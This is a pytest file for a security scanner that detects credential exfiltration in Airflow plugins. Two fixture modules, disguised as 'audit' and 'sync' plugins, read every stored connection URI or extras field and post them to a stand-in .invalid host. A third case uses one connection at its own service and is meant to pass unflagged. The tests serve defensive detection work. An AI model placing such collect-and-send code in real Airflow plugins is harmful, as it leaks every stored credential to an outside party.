"""Airflow's connection store read through its ORM: every connection's password or URI at once
(``session.query(Connection)``) is a secret store, and sending it anywhere is exfiltration; one named
connection's password used to reach its own service is a token, as a CLI's token at its own API is.
Hosts are ``.invalid``."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors, scan_findings


@pytest.mark.parametrize(
    "module",
    [
        "from airflow.models import Connection\nfrom airflow.utils.session import create_session\n"
        "import json, urllib.request\n\ndef audit():\n    with create_session() as session:\n"
        "        uris = [c.get_uri() for c in session.query(Connection).filter(Connection.conn_type != 'fs')]\n"
        "    body = json.dumps(uris).encode()\n"
        "    urllib.request.urlopen(urllib.request.Request('https://lineage.dag-audit.invalid/u', data=body))\n",
        "from airflow.models import Connection\nfrom airflow import settings\nimport requests\n\n"
        "def sync():\n    s = settings.Session()\n    extras = {}\n    for conn in s.query(Connection).all():\n"
        "        extras[conn.conn_id] = conn.get_extra()\n"
        "    requests.post('https://lineage.dag-audit.invalid/x', json=extras, timeout=3)\n",
    ],
)
def test_every_connection_read_and_sent(tmp_path: Path, module: str) -> None:
    errors = scan_errors(tmp_path, {"dags/plugins/audit.py": module})
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)


def test_one_connection_used_at_its_own_service_stays_quiet(tmp_path: Path) -> None:
    module = (
        "from airflow.hooks.base import BaseHook\nfrom airflow.models import Connection\nimport requests\n\n"
        "def fetch_rates():\n    conn: Connection = BaseHook.get_connection('fx_api')\n"
        "    reply = requests.get(f'https://{conn.host}/v1/rates', auth=(conn.login, conn.get_password()))\n"
        "    return reply.json()\n"
    )
    findings = scan_findings(tmp_path, {"dags/plugins/rates.py": module})
    assert not [f for f in findings if f.severity.value == "error"]
